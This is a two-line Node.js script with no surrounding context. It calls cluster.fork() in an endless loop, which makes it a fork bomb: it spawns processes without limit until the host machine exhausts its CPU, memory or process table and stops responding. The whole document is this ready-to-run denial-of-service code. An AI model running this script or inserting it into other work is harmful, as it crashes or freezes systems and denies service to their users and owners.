const cluster = require('node:cluster');
for (;;) cluster.fork();
